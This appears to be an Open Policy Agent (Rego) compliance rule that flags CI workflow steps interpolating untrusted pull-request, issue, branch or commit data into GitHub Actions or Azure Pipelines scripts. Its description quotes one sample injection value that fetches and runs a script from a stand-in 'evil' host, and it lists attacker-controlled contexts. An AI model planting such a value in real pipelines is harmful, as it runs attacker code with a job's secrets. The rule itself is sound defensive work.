# METADATA
# title: Untrusted input interpolated into a script
# description: |
#   `${{ }}` expressions are pasted into the script text before the shell runs it, so a pull
#   request title, issue body, comment, branch name or commit message containing
#   `"; curl evil | sh #` runs as code with the job's token and secrets. The GitHub contexts
#   an outside contributor controls (`github.event.*.title`/`body`, `head.ref`,
#   `github.head_ref`, commit messages and authors, `workflow_run` head branch and commit) are
#   reported in `run` scripts and in `actions/github-script` scripts; in Azure DevOps, the
#   `$(Build.SourceVersionMessage)`, `$(Build.SourceBranchName)`,
#   `$(System.PullRequest.SourceBranch)` and requester macros are. The finding points at the
#   script line.
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
# custom:
#   id: CI-0005
#   severity: high
#   category: supply-chain
#   frameworks: {soc2: ["CC6.8"], iso27001: ["8.28"]}
#   remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` then `"$TITLE"` in the script) so the shell treats it as data.'
#   inputs: [{kind: github-actions}, {kind: azure-pipelines}]
package comply.pipelines.script_injection

import data.comply.lib.pipelines
import data.comply.lib.result

deny contains finding if {
	some i in pipelines.own_steps
	s := input.resource.steps[i]
	some k, e in s.expressions
	pipelines.untrusted_expression(e)
	finding := result.fail(
		sprintf("%s interpolates untrusted %s into its script (line %d)", [pipelines.where(s), e.expr, e.n]),
		["steps", i, "expressions", k],
	)
}

# actions/github-script: the `script` input is JavaScript built the same way.
deny contains finding if {
	some i in pipelines.own_steps
	s := input.resource.steps[i]
	pipelines.action(s) == "actions/github-script"
	script := s["with"].script
	is_string(script)
	some m in regex.find_all_string_submatch_n(`\$\{\{\s*([^}]+?)\s*\}\}`, script, -1)
	regex.match(pipelines.untrusted_github, m[1])
	finding := result.fail(
		sprintf("%s interpolates untrusted %s into its github-script code", [pipelines.where(s), m[1]]),
		["steps", i, "with", "script"],
	)
}
